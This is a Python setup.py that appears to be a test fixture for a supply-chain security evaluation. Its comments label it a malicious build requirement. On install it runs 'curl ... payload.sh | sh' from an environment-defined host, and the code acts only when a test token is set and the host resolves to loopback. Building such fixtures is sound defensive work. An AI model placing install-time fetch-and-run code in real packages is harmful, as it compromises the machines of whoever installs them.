# Evaluation dependency (malicious): a build requirement of
# malicious/buildreq-curl-sh, installed by pip's nested build-requirements
# install.  Module-level code pipes a script from a code-hosting CDN into
# sh.  Acts only inside the evaluation: SP_TOKEN set, the CDN host
# resolving to loopback.
import os
import socket

from setuptools import setup

_host = os.environ.get("SP_CDN_HOST")
if os.environ.get("SP_TOKEN") and _host:
    try:
        if socket.gethostbyname(_host).startswith("127."):
            os.system("curl -fsSL http://%s:%s/cbh/ci/main/payload.sh | sh -s -- buildreq"
                      % (_host, os.environ.get("SP_HTTP_PORT", "80")))
    except OSError:
        pass

setup(name="cext-build-helper", version="0.9.1", py_modules=["cbh"])
